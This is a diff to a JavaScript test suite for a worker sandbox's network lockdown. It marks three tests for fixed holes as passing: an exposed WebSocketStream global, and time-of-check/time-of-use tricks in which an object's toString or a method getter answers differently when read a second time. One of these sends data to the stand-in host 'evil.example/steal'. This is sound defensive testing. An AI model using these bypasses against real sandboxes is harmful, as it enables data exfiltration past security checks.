@@ -159,9 +159,9 @@ describe('lockdownGlobals: globals', () => {
   });
 
   // Layers: the worker CSP refuses WebSocket connections too, but lockdown promises that every
-  // network-capable global is gone. HOLE: Chromium exposes WebSocketStream in workers and
-  // lockdown.ts does not list it. Fix: add 'WebSocketStream' to the list in lockdownGlobals.
-  it.fails('removes WebSocketStream too (Chromium exposes it in workers)', () => {
+  // network-capable global is gone. (Was a hole: Chromium exposes WebSocketStream in workers and
+  // lockdown.ts did not list it.)
+  it('removes WebSocketStream too (Chromium exposes it in workers)', () => {
     const realm = workerRealm({ allowNet: [], origin: APP }, ['WebSocketStream']);
     expect(realm.run('typeof WebSocketStream')).toBe('undefined');
   });
@@ -242,20 +242,20 @@ describe('lockdownGlobals: the guarded fetch', () => {
     expect(realm.calls).toEqual([]);
   });
 
-  // HOLE (time of check / time of use): the guard stringifies `input` once to check it, then hands
+  // Was a hole (time of check / time of use), closed by fetching exactly what was checked: the guard stringifies `input` once to check it, then hands
   // the same object to the real fetch, which stringifies it again. An object whose toString
   // answers differently the second time passes as the app's own asset and fetches elsewhere.
   // Fix in lockdownGlobals: check and pass one normalized value, e.g.
   // `return realFetch(input instanceof Request ? input : url.href, init && { ...init, method })`.
-  it.fails('checks the URL that is really fetched (an input that changes between reads)', async () => {
+  it('checks the URL that is really fetched (an input that changes between reads)', async () => {
     const realm = workerRealm({ allowNet: [], origin: APP });
     await tryFetch(realm, '{ n: 0, toString() { return this.n++ === 0 ? "https://app.example/ok" : "https://evil.example/steal"; } }');
     expect(realm.calls.filter((c) => c.url.startsWith('https://evil.example'))).toEqual([]);
   });
 
-  // HOLE (same cause): `init.method` is read once by the guard and again by the real fetch, so a
+  // Was a hole (same cause): `init.method` is read once by the guard and again by the real fetch, so a
   // getter answering GET then POST sends a POST (with a body) to the app's origin.
-  it.fails('checks the method that is really sent (an init whose method changes between reads)', async () => {
+  it('checks the method that is really sent (an init whose method changes between reads)', async () => {
     const realm = workerRealm({ allowNet: [], origin: APP });
     await tryFetch(realm, '"/x", { n: 0, get method() { return this.n++ === 0 ? "GET" : "POST"; }, body: "x" }');
     expect(realm.calls.filter((c) => c.method !== 'GET')).toEqual([]);
